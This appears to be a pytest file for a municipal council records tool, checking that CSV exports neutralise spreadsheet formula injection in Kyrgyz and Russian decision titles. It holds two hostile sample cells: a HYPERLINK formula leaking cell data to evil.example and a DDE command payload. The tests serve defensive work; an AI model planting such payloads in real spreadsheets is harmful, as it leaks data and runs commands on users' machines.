"""Every CSV muni writes opens in a spreadsheet as data: a cell that would start a formula
(``=``, ``+``, ``-``, ``@``, tab, carriage return) is written with a leading apostrophe."""

from __future__ import annotations

import csv
import io

from conftest import EXAMPLES
from hypothesis import given
from hypothesis import strategies as st

from muni.engine.spreadsheet import FORMULA_TRIGGERS, safe_cell

HOSTILE_KY = '=HYPERLINK("http://evil.example/?x="&A1, "Ачуу")'
HOSTILE_RU = "+cmd|' /c calc'!A1"


def test_registry_acts_csv_neutralises_formula_cells(sample_muni):
    muni = sample_muni
    muni("import", EXAMPLES / "council_deputies.yaml")
    text = (EXAMPLES / "council_decision_case.yaml").read_text(encoding="utf-8")
    text = text.replace(
        "    ky: Липенка айылдык аймагынын 2027-жылга карата биргелешкен аракеттер планын "
        "бекитүү жөнүндө\n", f"    ky: '{HOSTILE_KY}'\n", 1).replace(
        "    ru: Об утверждении Плана совместных действий Липенского айылного аймака на "
        "2027 год\n", f'    ru: "{HOSTILE_RU}"\n', 1)
    case = muni.json("case", "new", "council_decision", "-m", "lipenka", "--data",
                     muni.write("hostile.yaml", text))["case"]
    out = muni("registry", "acts", "--drafts", "--format", "csv").stdout
    row = next(r for r in csv.DictReader(io.StringIO(out)) if r["case"] == str(case))
    assert row["title_ky"] == "'" + HOSTILE_KY
    assert row["title_ru"] == "'" + HOSTILE_RU
    target = muni.tmp / "acts.csv"
    muni("registry", "acts", "--drafts", "--format", "csv", "--output", target)
    assert target.read_text(encoding="utf-8") == out
    # JSON is data for programs, not spreadsheets: it keeps the text as it is
    rows = muni.json("registry", "acts", "--drafts")
    assert next(r for r in rows if r["case"] == case)["title_ky"] == HOSTILE_KY


@given(st.text())
def test_no_cell_starts_a_formula_and_only_risky_text_changes(text):
    cell = safe_cell(text)
    assert not cell.lstrip(" ").startswith(FORMULA_TRIGGERS)
    assert cell == text or cell == "'" + text
    assert (cell != text) == text.lstrip(" ").startswith(FORMULA_TRIGGERS)


def test_numbers_stay_numbers():
    assert safe_cell(-5) == -5 and safe_cell(3.5) == 3.5 and safe_cell(None) is None
    assert safe_cell("-5") == "'-5" and safe_cell("  @SUM(A1)") == "'  @SUM(A1)"
    assert safe_cell("\uff1dcmd") == "'\uff1dcmd" and safe_cell("Липенка") == "Липенка"
